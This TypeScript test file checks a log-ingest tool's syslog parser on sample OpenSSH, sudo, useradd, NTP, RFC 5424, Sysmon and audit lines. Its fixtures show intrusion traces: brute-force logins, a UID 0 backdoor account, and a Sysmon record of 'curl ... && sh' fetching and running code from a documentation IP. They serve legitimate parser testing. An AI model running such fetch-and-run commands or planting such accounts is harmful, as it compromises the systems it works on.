import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { syslogReader, type SyslogReaderOptions } from '../../src/ingest/readers/syslog/index.js';
import { IngestError, UsageError } from '../../src/model/index.js';
import { fuzz, readAll } from './syslog-helpers.test.js';

/** The syslog reader's own options, typed (ReaderOptions, shared by all readers, does not name them). */
const opts = (o: SyslogReaderOptions): SyslogReaderOptions => o;
const ns = (iso: string) => BigInt(Date.parse(iso)) * 1_000_000n;

const AUTH_LOG = [
  'Dec 31 23:59:58 bastion sshd[812]: Accepted publickey for alice from 203.0.113.7 port 50022 ssh2: ED25519 SHA256:AbCdEf0123',
  'Dec 31 23:59:59 bastion sshd-session[813]: Failed password for invalid user admin from 198.51.100.9 port 41000 ssh2',
  'Jan  1 00:00:01 bastion sshd[814]: Invalid user oracle from 198.51.100.9 port 41002',
  'Jan  1 00:00:02 bastion sshd[815]: Disconnected from authenticating user root 198.51.100.9 port 41004 [preauth]',
  'Jan  1 00:00:03 bastion sshd[816]: Connection closed by invalid user test 2001:db8::5 port 2222 [preauth]',
  'Jan  1 00:00:04 bastion sshd[812]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)',
  'Jan  1 00:00:05 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/chronyc makestep',
  'Jan  1 00:00:06 bastion sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c id',
  'Jan  1 00:00:07 bastion su: pam_unix(su:session): session opened for user root by alice(uid=1000)',
  'Jan  1 00:00:08 bastion su: FAILED SU (to root) mallory on pts/2',
  'Jan  1 00:00:09 bastion useradd[901]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
  'Jan  1 00:00:10 bastion groupadd[900]: new group: name=svc, GID=1001',
  'Jan  1 00:00:11 bastion passwd[902]: pam_unix(passwd:chauthtok): password changed for svc',
  'Jan  1 00:00:12 bastion systemd-logind[500]: New session 42 of user alice.',
  'Jan  1 00:00:13 bastion sshd[820]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.9  user=root',
  'Jan  1 00:00:14 bastion sshd[821]: message repeated 5 times: [ Failed password for root from 198.51.100.9 port 41010 ssh2]',
  '',
].join('\n');

test('syslog: OpenSSH, PAM, sudo, su and shadow-utils lines become fields and typed columns', async () => {
  const { events } = await readAll(syslogReader, 'auth.log', AUTH_LOG, opts({ year: 2023 }));
  assert.equal(events.length, 16);
  const [acc, fail, inv, disc, closed, pam, sudo, sudoBad, suPam, suFail, useradd, groupadd, passwd, logind, authFail, repeated] = events;
  assert.equal(acc!.service, 'sshd');
  assert.equal(acc!.tsNs, ns('2023-12-31T23:59:58Z'));
  assert.deepEqual([acc!.fields.action, acc!.fields.method, acc!.user, acc!.srcIp, acc!.srcPort], ['accepted', 'publickey', 'alice', '203.0.113.7', 50022]);
  assert.deepEqual([acc!.fields.key_type, acc!.fields.key_fingerprint], ['ED25519', 'SHA256:AbCdEf0123']);
  assert.equal(fail!.service, 'sshd', 'sshd-session (OpenSSH >= 9.8) is sshd');
  assert.deepEqual([fail!.fields.action, fail!.fields.invalid_user, fail!.user, fail!.srcIp, fail!.srcPort], ['failed', true, 'admin', '198.51.100.9', 41000]);
  // Dec 31 → Jan 1 rolls the year over.
  assert.equal(inv!.tsNs, ns('2024-01-01T00:00:01Z'));
  assert.deepEqual([inv!.fields.action, inv!.user, inv!.srcPort], ['invalid_user', 'oracle', 41002]);
  assert.deepEqual([disc!.fields.action, disc!.user, disc!.srcIp, disc!.fields.preauth], ['disconnected', 'root', '198.51.100.9', true]);
  assert.deepEqual([closed!.fields.action, closed!.user, closed!.srcIp, closed!.srcPort], ['connection_closed', 'test', '2001:db8::5', 2222]);
  assert.deepEqual([pam!.fields.pam_module, pam!.fields.pam_service, pam!.fields.action, pam!.user, pam!.fields.uid], ['pam_unix', 'sshd', 'session_opened', 'alice', '1000']);
  assert.equal(sudo!.service, 'sudo');
  assert.deepEqual([sudo!.user, sudo!.fields.USER, sudo!.fields.TTY, sudo!.fields.PWD, sudo!.image, sudo!.commandLine],
    ['alice', 'root', 'pts/0', '/home/alice', '/usr/bin/chronyc', '/usr/bin/chronyc makestep']);
  assert.deepEqual([sudoBad!.fields.action, sudoBad!.fields.sudo_error, sudoBad!.user], ['denied', '3 incorrect password attempts', 'bob']);
  assert.deepEqual([suPam!.service, suPam!.fields.action, suPam!.fields.by_user], ['auth', 'session_opened', 'alice']);
  assert.deepEqual([suFail!.fields.action, suFail!.fields.target_user, suFail!.user, suFail!.fields.tty], ['su_failed', 'root', 'mallory', 'pts/2']);
  assert.deepEqual([useradd!.service, useradd!.fields.action, useradd!.fields.name, useradd!.fields.UID, useradd!.fields.shell], ['auth', 'new_user', 'svc', '0', '/bin/bash']);
  assert.deepEqual([groupadd!.fields.action, groupadd!.fields.GID], ['new_group', '1001']);
  assert.deepEqual([passwd!.fields.action, passwd!.user], ['password_changed', 'svc']);
  assert.deepEqual([logind!.fields.action, logind!.fields.session, logind!.user], ['session_new', '42', 'alice']);
  assert.deepEqual([authFail!.fields.action, authFail!.fields.rhost, authFail!.user, authFail!.srcIp], ['auth_failure', '198.51.100.9', 'root', '198.51.100.9']);
  assert.deepEqual([repeated!.fields.repeated, repeated!.fields.action, repeated!.user, repeated!.srcPort], [5, 'failed', 'root', 41010]);
  for (const e of events) {
    assert.equal(e.product, 'linux');
    assert.equal(e.fields.host, 'bastion');
    assert.equal(typeof e.fields.message, 'string');
  }
});

test('syslog: RFC 5424 header, structured data and PRI', async () => {
  const line = '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 1234 ID47 [exampleSDID@32473 iut="3" eventSource="App\\"lication" eventID="1011"][examplePriority@32473 class="high"] \uFEFFAn application event';
  const { events } = await readAll(syslogReader, 'x.log', line + '\n<34>1 - host su - - - nil time\n');
  assert.equal(events.length, 2);
  const e = events[0]!;
  assert.equal(e.tsNs, ns('2003-10-11T22:14:15.003Z'));
  assert.deepEqual([e.host, e.fields.program, e.fields.pid, e.fields.msgid, e.fields.facility, e.fields.severity],
    ['mymachine.example.com', 'evntslog', '1234', 'ID47', 'local4', 'notice']);
  assert.deepEqual(e.fields.sd, { 'exampleSDID@32473': { iut: '3', eventSource: 'App"lication', eventID: '1011' }, 'examplePriority@32473': { class: 'high' } });
  assert.equal(e.fields.message, 'An application event');
  assert.equal(events[1]!.tsNs, null, 'NILVALUE timestamp');
  assert.equal(events[1]!.service, 'auth');
});

test('syslog: rsyslog ISO lines with and without zone; the timezone option applies to zone-less times', async () => {
  const text = '2024-01-02T03:04:05.123456+08:00 ntp1 chronyd[77]: Selected source 192.0.2.1 (ntp.example.org)\n'
    + '2024-01-02T03:04:06.5 ntp1 chronyd[77]: System clock wrong by -1.250000 seconds\n';
  const plain = await readAll(syslogReader, 'messages', text);
  assert.equal(plain.events[0]!.tsNs, ns('2024-01-01T19:04:05.123Z') + 456_000n);
  assert.equal(plain.events[1]!.tsNs, ns('2024-01-02T03:04:06.500Z'));
  assert.ok(plain.anomalies.some((a) => a.kind === 'syslog-zone-assumed'));
  const shanghai = await readAll(syslogReader, 'messages', text, opts({ timezone: 'Asia/Shanghai' }));
  assert.equal(shanghai.events[1]!.tsNs, ns('2024-01-01T19:04:06.500Z'));
  assert.equal(shanghai.anomalies.length, 0);
  const sel = plain.events[0]!;
  assert.deepEqual([sel.service, sel.category, sel.fields.time_event, sel.fields.source, sel.fields.source_name], ['chronyd', 'time', 'source_selected', '192.0.2.1', 'ntp.example.org']);
  assert.deepEqual([plain.events[1]!.fields.time_event, plain.events[1]!.fields.offset_s], ['clock_wrong', -1.25]);
  await assert.rejects(readAll(syslogReader, 'messages', text, opts({ timezone: 'Mars/Olympus' })), UsageError);
});

test('syslog: chronyd and ntpd messages that steer the clock', async () => {
  const text = [
    'Mar  3 10:00:00 ntp1 chronyd[77]: Forward time jump detected!',
    "Mar  3 10:00:01 ntp1 chronyd[77]: Can't synchronise: no selectable sources",
    'Mar  3 10:00:02 ntp1 chronyd[77]: System clock was stepped by 0.512000 seconds',
    'Mar  3 10:00:03 ntp2 ntpd[99]: 0.0.0.0 061c 0c clock_step -0.512345 s',
    'Mar  3 10:00:04 ntp2 ntpd[99]: synchronized to 192.0.2.9, stratum 1',
    'Mar  3 10:00:05 ntp2 ntpd[99]: kernel reports TIME_ERROR: 0x2041: Clock Unsynchronized',
  ].join('\n');
  const { events } = await readAll(syslogReader, 'daemon.log', text, opts({ year: 2024 }));
  assert.deepEqual(events.map((e) => e.fields.time_event), ['time_jump', 'no_sync', 'clock_stepped', 'clock_step', 'synchronized', 'kernel_time_error']);
  assert.equal(events[0]!.fields.direction, 'forward');
  assert.equal(events[1]!.fields.reason, 'no selectable sources');
  assert.equal(events[2]!.fields.offset_s, 0.512);
  assert.deepEqual([events[3]!.service, events[3]!.fields.offset_s, events[3]!.fields.status_word], ['ntpd', -0.512345, '061c']);
  assert.deepEqual([events[4]!.fields.source, events[4]!.fields.stratum], ['192.0.2.9', 1]);
});

test('syslog: year from a dated line later in the file, replayed backwards over a rollover', async () => {
  const text = [
    'Dec 30 10:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.',
    'Jan  2 10:00:00 h sshd[1]: Server listening on :: port 22.',
    '2025-01-03T10:00:00Z h sshd[1]: Server listening on 0.0.0.0 port 22.',
    'Jan  4 10:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.',
  ].join('\n');
  const { events, anomalies } = await readAll(syslogReader, 'secure', text);
  assert.deepEqual(events.map((e) => e.tsNs), [ns('2024-12-30T10:00:00Z'), ns('2025-01-02T10:00:00Z'), ns('2025-01-03T10:00:00Z'), ns('2025-01-04T10:00:00Z')]);
  assert.ok(!anomalies.some((a) => a.kind === 'syslog-year-assumed'));
  // Without any dated line and no option: the documented fallback year, said once.
  const bare = await readAll(syslogReader, 'secure', 'Feb 29 10:00:00 h sshd[1]: x\nMar  1 00:00:00 h sshd[1]: y\n');
  assert.equal(bare.events[0]!.tsNs, ns('2000-02-29T10:00:00Z'));
  assert.equal(bare.anomalies.filter((a) => a.kind === 'syslog-year-assumed').length, 1);
  // A date the year does not have is kept without time and reported.
  const bad = await readAll(syslogReader, 'secure', 'Feb 29 10:00:00 h sshd[1]: x\n', opts({ year: 2023 }));
  assert.equal(bad.events[0]!.tsNs, null);
  assert.ok(bad.anomalies.some((a) => a.kind === 'syslog-bad-date'));
});

test('syslog: Sysmon for Linux XML becomes the Windows-style field map', async () => {
  const xml = '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2021-10-15T19:36:32.541148000Z"/><EventRecordID>67</EventRecordID><Correlation/><Execution ProcessID="29309" ThreadID="29309"/><Channel>Linux-Sysmon/Operational</Channel><Computer>ntp-core-1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2021-10-15 19:36:32.544</Data><Data Name="ProcessGuid">{a1b2}</Data><Data Name="ProcessId">29310</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://198.51.100.4/x &amp;&amp; sh</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="ParentImage">/bin/bash</Data></EventData></Event>';
  const net = '<Event><System><Provider Name="Linux-Sysmon"/><EventID>3</EventID><TimeCreated SystemTime="2021-10-15T19:36:33Z"/><Computer>ntp-core-1</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="Protocol">tcp</Data><Data Name="SourceIp">10.0.0.5</Data><Data Name="SourcePort">40000</Data><Data Name="DestinationIp">198.51.100.4</Data><Data Name="DestinationPort">80</Data></EventData></Event>';
  const text = `Oct 15 19:36:32 ntp-core-1 sysmon: ${xml}\nOct 15 19:36:33 ntp-core-1 sysmon: ${net}\n`;
  const { events, anomalies } = await readAll(syslogReader, 'syslog', text);
  const [p, n] = events;
  assert.deepEqual([p!.category, p!.service, p!.eventId, p!.fields.EventID, p!.host], ['process_creation', 'sysmon', 1, 1, 'ntp-core-1']);
  assert.deepEqual([p!.fields.Image, p!.fields.CommandLine, p!.fields.ParentImage, p!.fields.CurrentDirectory], ['/usr/bin/curl', 'curl -s http://198.51.100.4/x && sh', '/bin/bash', '/tmp']);
  assert.deepEqual([p!.image, p!.commandLine, p!.user], ['/usr/bin/curl', 'curl -s http://198.51.100.4/x && sh', 'root']);
  assert.equal(p!.tsNs, ns('2021-10-15T19:36:32.541Z') + 148_000n);
  assert.deepEqual([n!.category, n!.srcIp, n!.srcPort, n!.dstIp, n!.dstPort, n!.proto], ['network_connection', '10.0.0.5', 40000, '198.51.100.4', 80, 'tcp']);
  assert.ok(!anomalies.some((a) => a.kind === 'syslog-year-assumed'), 'TimeCreated fixed the year');
});

test('syslog: audit records relayed through syslog keep auditd fields and date the file', async () => {
  const text = 'Mar  1 12:00:00 h kernel: [1.2] audit: type=1400 audit(1709294400.123:77): apparmor="DENIED" operation="open" name="/etc/shadow" comm="cat"\n'
    + 'Mar  1 12:00:01 h sshd[5]: Server listening on 0.0.0.0 port 22.\n';
  const { events } = await readAll(syslogReader, 'kern.log', text);
  assert.deepEqual([events[0]!.service, events[0]!.fields.type, events[0]!.fields.name, events[0]!.fields.apparmor], ['auditd', 'AVC', '/etc/shadow', 'DENIED']);
  assert.equal(events[0]!.tsNs, 1709294400123000000n);
  assert.equal(events[1]!.tsNs, ns('2024-03-01T12:00:01Z'));
});

test('syslog: gzip is transparent; odd lines are anomalies; non-syslog input is an IngestError naming file and line', async () => {
  const gz = await readAll(syslogReader, 'auth.log.1.gz', gzipSync(AUTH_LOG), opts({ year: 2023 }));
  assert.equal(gz.events.length, 16);
  const odd = await readAll(syslogReader, 'auth.log', 'Jan  1 00:00:00 h sshd[1]: ok\n\tat java.lang.Thread.run\nJan  1 00:00:01 h sshd[1]: ok\n', opts({ year: 2023 }));
  assert.equal(odd.events.length, 2);
  assert.deepEqual(odd.anomalies.map((a) => [a.offset, a.kind]), [[1, 'syslog-zone-assumed'], [2, 'syslog-unparsed']]);
  const junk = Array.from({ length: 30 }, (_, i) => `just some text ${i}`).join('\n');
  await assert.rejects(readAll(syslogReader, 'notes.txt', junk), (e: unknown) => e instanceof IngestError && /notes\.txt:1: /.test(e.message));
});

test('syslog: sniffing by content; the name only breaks ties', () => {
  const head = Buffer.from(AUTH_LOG);
  assert.ok(syslogReader.sniff(head, 'whatever.bin') >= 0.75);
  assert.ok(syslogReader.sniff(head, 'auth.log') > syslogReader.sniff(head, 'whatever.bin'));
  assert.equal(syslogReader.sniff(Buffer.from('type=EXECVE msg=audit(1.2:3): argc=1 a0="ls"\n'), 'auth.log'), 0);
  assert.equal(syslogReader.sniff(Buffer.from('{"a":1}\n{"a":2}\n'), 'syslog'), 0);
});

test('syslog fuzz: truncated, bit-flipped and random input never crashes or hangs', { timeout: 60_000 }, async () => {
  const r = await fuzz(syslogReader, 'fuzz-auth.log', Buffer.from(AUTH_LOG), 7, 80);
  assert.equal(r.runs, 80);
  assert.ok(r.errors > 0, 'random bytes and broken gzip give file-level errors');
});
